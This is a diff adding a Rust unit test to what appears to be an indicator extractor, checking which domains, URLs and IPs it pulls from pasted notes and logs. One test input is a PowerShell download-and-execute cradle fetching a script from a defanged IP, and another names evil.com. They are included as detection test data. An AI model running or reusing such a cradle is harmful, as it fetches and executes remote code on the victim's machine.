@@ -632,3 +632,37 @@ fn an_ipv4_mapped_address_is_its_ipv4_address() {
     let host = host_of(&url, &config).map(|a| (a.kind, a.value.to_string()));
     assert_eq!(host, ipv4());
 }
+#[test]
+fn code_and_logs_pasted_into_notes() {
+    assert_found(vec![
+        // A Chromium user agent's version, since user agents were cut short.
+        (
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
+             Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
+            vec![],
+        ),
+        // Methods called in scripts: a name followed by `(`.
+        (
+            "requests.post(url, data=payload); window.open(u); self.download(x)",
+            vec![],
+        ),
+        (
+            "then evil.com (registered yesterday)",
+            one(Kind::Domain, "evil.com"),
+        ),
+        // Files: OneNote attachments, Java settings and actions.
+        ("Invoice.one, log4j.properties and login.do", vec![]),
+        (
+            "IEX (New-Object Net.WebClient).DownloadString('hxxp://185.220.101[.]4/a.ps1')",
+            one(Kind::Url, "http://185.220.101.4/a.ps1"),
+        ),
+        // Networks and addresses around them still are.
+        (
+            "from 185.0.0.1 and 185.220.0.0",
+            vec![
+                (Kind::Ipv4, "185.0.0.1".to_string()),
+                (Kind::Ipv4, "185.220.0.0".to_string()),
+            ],
+        ),
+    ]);
+}
